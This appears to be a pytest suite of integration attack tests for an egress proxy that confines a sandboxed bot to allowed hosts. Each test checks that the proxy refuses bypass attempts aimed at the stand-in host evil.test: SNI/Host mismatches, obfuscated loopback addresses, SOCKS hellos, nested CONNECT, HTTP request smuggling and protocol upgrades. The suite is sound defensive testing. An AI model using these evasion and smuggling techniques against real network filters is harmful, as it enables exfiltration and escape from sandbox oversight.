"""B1-B5: abusing an allowed destination by naming it in more than one way."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from bot_bottle.verify.names import SMUGGLING, SPELLINGS
from tests.attacks import inside
from tests.support.outside import new_marker

if TYPE_CHECKING:
    from tests.support.lab import RunningBottle
    from tests.support.outside import World

pytestmark = [pytest.mark.integration, pytest.mark.attack]

_TRY_CONNECT = """
sock, answer = connect(authority)
text = (answer + (b"" if b" 200 " in answer.split(b"\\r\\n")[0] else sock.recv(65536))).decode("latin-1")
inner = ""
if " 200 " in text.split("\\r\\n")[0]:
    try:
        tunnel = tls(sock, sni, verify=False)
        inner = ask(tunnel, f"GET /{marker} HTTP/1.1\\r\\nHost: {sni}\\r\\n\\r\\n")
    except OSError as error:
        inner = "error: " + str(error)
tell(outer=text, inner=inner)
"""


@pytest.mark.parametrize("name", SPELLINGS)
def test_b1_spellings_of_a_host(bottle: RunningBottle, world: World, name: str) -> None:
    marker = new_marker("b1")
    authority = SPELLINGS[name].replace(b"M", marker.encode())
    records_before = len(bottle.audit())
    answer = inside.run(bottle, _TRY_CONNECT, authority=authority, sni=f"{marker}.evil.test", marker=marker)
    assert world.reached(marker) == []
    refused = inside.refusal(answer["outer"]) or inside.refusal(answer["inner"])
    assert refused, answer
    new_lines = bottle.audit()[records_before:]
    assert [line["reason"] for line in new_lines if line["decision"] == "deny"] == [refused["reason"]]


@pytest.mark.parametrize("host", ["allowed.test.", "ALLOWED.test", "Allowed.Test."])
def test_b1_the_same_host_in_other_spellings_is_the_same_host(
    bottle: RunningBottle, world: World, host: str
) -> None:
    marker = new_marker("b1")
    assert bottle.sh(f"curl -sS -m 5 https://{host}/{marker}").json()["target"] == f"/{marker}"
    assert world.reached(marker)


@pytest.mark.parametrize("version", [4, 5])
def test_b1_the_proxy_speaks_no_socks(bottle: RunningBottle, world: World, version: int) -> None:
    marker = new_marker("b1")
    host = f"{marker}.evil.test\0.allowed.test".encode()
    if version == 5:
        hello = b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(host)]) + host + b"\x01\xbb"
    else:
        hello = b"\x04\x01\x01\xbb\x00\x00\x00\x01\x00" + host + b"\x00"
    code = (
        "sock = proxy(); sock.sendall(hello + b'GET / HTTP/1.1\\r\\n\\r\\n');"
        "tell(answer=sock.recv(65536).decode('latin-1'))"
    )
    answer = inside.run(bottle, code, hello=hello)["answer"]
    assert answer == "" or inside.status(answer) >= 400
    assert world.reached(marker) == []


_TUNNEL = """
sock, answer = connect("allowed.test:443")
try:
    tunnel = tls(sock, sni, verify=False)
    result = ask(tunnel, f"GET /{marker} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
except OSError as error:
    result = "error: " + str(error)
tell(answer=result)
"""

_TRANSPARENT = """
try:
    tunnel = tls(socket.create_connection((SIDECAR, 443)), sni, verify=False)
    result = ask(tunnel, f"GET /{marker} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
except OSError as error:
    result = "error: " + str(error)
tell(answer=result)
"""


@pytest.mark.parametrize("code", [_TUNNEL, _TRANSPARENT], ids=["connect", "transparent"])
@pytest.mark.parametrize(
    ("sni", "host", "reason"),
    [
        ("{m}.evil.test", "allowed.test", "names_disagree"),
        ("allowed.test", "{m}.evil.test", "names_disagree"),
        ("{m}.evil.test", "{m}.evil.test", None),
        ("{m}.wild.test", "allowed.test", "names_disagree"),
        (None, "allowed.test", "sni_missing"),
    ],
    ids=["sni-elsewhere", "host-elsewhere", "both-elsewhere", "other-allowed-sni", "no-sni"],
)
def test_b2_authority_sni_and_host_must_agree(
    bottle: RunningBottle, world: World, code: str, sni: str | None, host: str, reason: str | None
) -> None:
    marker = new_marker("b2")
    answer = inside.run(
        bottle,
        code,
        sni=sni.format(m=marker) if sni else None,
        host=host.format(m=marker),
        marker=marker,
    )["answer"]
    assert world.reached(marker) == []
    expected = {reason} if reason else {"names_disagree", "host_not_allowed"}
    assert inside.refusal(answer).get("reason") in expected, answer
    assert {line["reason"] for line in bottle.denied(marker)} <= expected


@pytest.mark.parametrize("code", [_TUNNEL, _TRANSPARENT], ids=["connect", "transparent"])
def test_b2_agreeing_names_work(bottle: RunningBottle, world: World, code: str) -> None:
    marker = new_marker("b2")
    answer = inside.run(bottle, code, sni="allowed.test", host="allowed.test", marker=marker)["answer"]
    assert inside.status(answer) == 200, answer
    assert world.reached(marker)


@pytest.mark.parametrize(
    "authority",
    ["45.33.255.1:443", "[2606:4700:beef::1]:443", "127.0.0.1:443", "0.0.0.0:443", "[::1]:443",
     "2130706433:443", "0x7f000001:443", "0177.0.0.1:443", "127.1:443", "[::ffff:127.0.0.1]:443"],
)  # fmt: skip
def test_b3_connect_to_an_address(bottle: RunningBottle, world: World, authority: str) -> None:
    marker = new_marker("b3")
    answer = inside.run(bottle, _TRY_CONNECT, authority=authority, sni="allowed.test", marker=marker)
    assert inside.refusal(answer["outer"]) or inside.refusal(answer["inner"]), answer
    assert world.reached(marker) == []
    assert not any(address in ("45.33.255.1", "2606:4700:beef::1") for address, _ in world.records().accepted)


@pytest.mark.parametrize("port", [22, 25, 853, 5432, 8443, 9418, 0, 65535])
def test_b3_connect_to_another_port(bottle: RunningBottle, world: World, port: int) -> None:
    marker = new_marker("b3")
    answer = inside.run(
        bottle, _TRY_CONNECT, authority=f"{marker}.wild.test:{port}", sni=f"{marker}.wild.test", marker=marker
    )
    assert inside.refusal(answer["outer"])["reason"] in {"port_not_allowed", "bad_authority"}
    assert world.reached(marker) == []


def test_b3_connect_inside_connect(bottle: RunningBottle, world: World) -> None:
    code = """
sock, _ = connect("allowed.test:443")
tunnel = tls(sock, "allowed.test")
answer = ask(tunnel, f"CONNECT {marker}.evil.test:443 HTTP/1.1\\r\\nHost: {marker}.evil.test:443\\r\\n\\r\\n")
tell(answer=answer)
"""
    marker = new_marker("b3")
    answer = inside.run(bottle, code, marker=marker)["answer"]
    assert inside.status(answer) >= 400 or answer == ""
    assert world.reached(marker) == []


@pytest.mark.parametrize("eager", [True, False])
def test_b3_bytes_sent_along_with_a_connect_are_not_relayed(
    bottle: RunningBottle, world: World, eager: bool
) -> None:
    code = """
sock = proxy()
head = b"CONNECT allowed.test:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n"
smuggled = f"GET /{marker} HTTP/1.1\\r\\nHost: {marker}.evil.test\\r\\n\\r\\n".encode()
try:
    if eager:
        answer = ask(sock, head + smuggled)
    else:
        sock.sendall(head)
        first = read_head(sock)
        answer = ask(sock, smuggled)
except OSError as error:
    answer = "error: " + str(error)
tell(answer=answer)
"""
    marker = new_marker("b3")
    inside.run(bottle, code, marker=marker, eager=eager)
    assert world.reached(marker) == []


def _plain(request: str, then: str = "") -> str:
    return f"""
sock = proxy()
first = ask(sock, {request!r}.format(m=marker))
second = ask(sock, {then!r}.format(m=marker)) if {bool(then)} else ""
tell(first=first, second=second)
"""


_URL = "http://allowed.test/{m}"


@pytest.mark.parametrize(
    ("request_text", "reason"),
    [
        ("GET http://allowed.test/{m} HTTP/1.1\r\nHost: {m}.evil.test\r\n\r\n", "names_disagree"),
        ("GET http://{m}.evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "names_disagree"),
        (f"GET {_URL} HTTP/1.1\r\nHost: allowed.test\r\nHost: {{m}}.evil.test\r\n\r\n", "duplicate_host"),
        (f"GET {_URL} HTTP/1.1\r\nHost: allowed.test\r\nHost: allowed.test\r\n\r\n", "duplicate_host"),
        ("GET http://allowed.test/{m} HTTP/1.1\r\n\r\n", "host_missing"),
        ("GET http://x@{m}.evil.test/ HTTP/1.1\r\nHost: {m}.evil.test\r\n\r\n", None),
        ("GET /{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n", None),
        ("GET ftp://allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n", None),
        ("GET http:allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n", None),
        ("GET //{m}.evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n", None),
    ],
)  # fmt: skip
def test_b4_uri_and_host_differ(
    bottle: RunningBottle, world: World, request_text: str, reason: str | None
) -> None:
    marker = new_marker("b4")
    answer = inside.run(bottle, _plain(request_text), marker=marker)["first"]
    assert world.reached(marker) == []
    refused = inside.refusal(answer)
    assert refused, answer
    assert reason is None or refused["reason"] == reason


def test_b4_forwarding_headers_do_not_leave(bottle: RunningBottle, world: World) -> None:
    marker = new_marker("b4")
    names = ("X-Forwarded-Host", "X-Forwarded-For", "Forwarded", "X-Forwarded-Proto", "X-Forwarded-Server")
    options = " ".join(f"-H '{name}: evil.test'" for name in names)
    bottle.sh(f"curl -sS -m 5 {options} https://allowed.test/{marker}")
    (seen,) = [seen for seen in world.records().requests if marker in seen.target]
    assert b"evil.test" not in seen.raw


@pytest.mark.parametrize("name", SMUGGLING)
def test_b4_request_smuggling(bottle: RunningBottle, world: World, name: str) -> None:
    """No second request may come out of what an unambiguous reader sees as one."""
    marker, first = new_marker("b4"), new_marker("b4first")
    method, headers, body = SMUGGLING[name]
    text = (
        f"{method} http://allowed.test/{first} HTTP/1.1\r\nHost: allowed.test\r\n{headers}\r\n\r\n{body}"
        f"GET http://allowed.test/{marker} HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
    )
    code = "sock = proxy()\ntell(answer=ask(sock, text))"
    answer = inside.run(bottle, code, text=text.encode("latin-1"))["answer"]
    reached = [seen for seen in world.records().requests if marker.encode() in seen.raw]
    assert reached == []  # as a request of its own; as the body of the first it would be harmless
    assert inside.status(answer) == 400, answer
    assert world.reached(first) == []


def test_b4_chunked_uploads_work(bottle: RunningBottle, world: World) -> None:
    marker = new_marker("b4")
    bottle.sh(f"curl -sS -m 5 -H 'Transfer-Encoding: chunked' -d 'body={marker}' https://allowed.test/upload")
    (seen,) = [seen for seen in world.records().requests if marker.encode() in seen.body]
    assert seen.body == f"body={marker}".encode()


@pytest.mark.parametrize("protocol", ["h2c", "TLS/1.0", "foo"])
def test_b4_no_other_protocol_is_upgraded_to(bottle: RunningBottle, world: World, protocol: str) -> None:
    marker = new_marker("b4")
    options = (
        f"-H 'Connection: Upgrade, HTTP2-Settings' -H 'Upgrade: {protocol}' -H 'HTTP2-Settings: AAMAAABk'"
    )
    bottle.sh(f"curl -sS -m 5 {options} http://allowed.test/{marker}")
    for seen in world.records().requests:
        if marker in seen.target:
            assert not seen.values("upgrade")
            assert not seen.values("http2-settings")


def test_b4_http2_preface_is_refused(bottle: RunningBottle) -> None:
    code = """
sock, _ = connect("allowed.test:443")
tunnel = tls(sock, "allowed.test")
answer = ask(tunnel, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + bytes(9))
tell(answer=answer, alpn=tunnel.selected_alpn_protocol())
"""
    found = inside.run(bottle, code)
    assert found["alpn"] in (None, "http/1.1")
    assert inside.status(found["answer"]) >= 400 or found["answer"] == ""


def test_b4_a_stream_names_the_host_of_its_connection_or_is_refused(
    bottle: RunningBottle, world: World, token: str
) -> None:
    marker, other = new_marker("b4"), new_marker("b4")
    curl = "curl -sS -m 25 --http2 -o /dev/null -w '%{http_version} %{http_code}\\n'"
    done = bottle.sh(f"{curl} -H 'Authorization: Bearer mine' https://streams.test/{marker}")
    assert done.stdout.split() == [b"2", b"200"], done.stderr
    (seen,) = [seen for seen in world.records().requests if marker in seen.target]
    assert seen.values("authorization") == [f"Bearer {token}"]
    for host in (f"{other}.evil.test", "allowed.test", "streams.test.evil.test"):
        said = bottle.sh(f"{curl} -H 'Host: {host}' https://streams.test/{other}").stdout
        assert said.split() == [b"2", b"421"], host
    said = bottle.sh(f"{curl} https://allowed.test/").stdout
    assert said.split()[0] == b"1.1", "offered only where the route says so"
    assert not [seen for seen in world.records().requests if other in seen.target or other in str(seen)]


def test_b5_the_second_request_of_a_connection_is_decided_anew(bottle: RunningBottle, world: World) -> None:
    first, second = new_marker("b5"), new_marker("b5")
    answers = inside.run(
        bottle,
        _plain(
            f"GET http://allowed.test/{first} HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
            "GET http://{m}.evil.test/ HTTP/1.1\r\nHost: {m}.evil.test\r\n\r\n",
        ),
        marker=second,
    )
    assert inside.status(answers["first"]) == 200
    assert inside.refusal(answers["second"])["reason"] == "host_not_allowed"
    assert world.reached(first)
    assert world.reached(second) == []


def test_b5_a_tunnel_stays_with_its_host(bottle: RunningBottle, world: World, token: str) -> None:
    """A later request of a tunnel may not be another host's, allowed as that host is elsewhere."""
    code = """
sock, _ = connect("allowed.test:443")
tunnel = tls(sock, "allowed.test")
first = ask(tunnel, f"GET /{marker}-first HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
second = ask(tunnel, f"GET /{marker}-second HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n")
tell(first=first, second=second)
"""
    marker = new_marker("b5")
    answers = inside.run(bottle, code, marker=marker)
    assert inside.status(answers["first"]) == 200
    assert inside.refusal(answers["second"])["reason"] == "names_disagree"
    assert world.reached(f"{marker}-first")
    assert world.reached(f"{marker}-second") == []


def test_b5_credentials_do_not_follow_a_pooled_connection(
    bottle: RunningBottle, world: World, token: str
) -> None:
    marker = new_marker("b5")
    hosts = f"https://api.test/{marker}-a$n https://allowed.test/{marker}-b$n"
    bottle.sh(f"for n in 1 2 3; do curl -sS -m 5 {hosts}; done")
    seen = [request for request in world.records().requests if marker in request.target]
    assert len(seen) == 6
    for request in seen:
        expected = [f"Bearer {token}"] if request.host == "api.test" else []
        assert request.values("authorization") == expected
        assert request.sni == request.host
